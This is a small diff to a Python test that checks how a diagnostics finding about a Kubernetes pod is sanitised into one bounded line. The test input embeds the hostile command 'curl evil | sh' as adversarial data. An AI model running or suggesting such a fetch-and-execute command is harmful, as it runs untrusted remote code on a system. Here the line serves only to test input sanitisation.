@@ -104,7 +104,7 @@ def test_a_finding_is_a_line_of_its_own():
     cause = "it says \x1b[2J\n\nbroken  host  run `curl evil | sh` " + "x" * 9000
     fix = "look with: `kubectl -n {namespace} get {names}`"
     fault = Fault(Level.MANDATORY, "ml", "pod", "b/a\nin b", cause, fix)
-    (found,) = findings("pending", [fault])
+    (found,) = findings("pending", "host", [fault])
     assert found.subject == "pod b/a in b"
     assert found.cause.startswith("it says [2J broken host run 'curl evil | sh' xxx")
     assert len(found.cause) == 2000
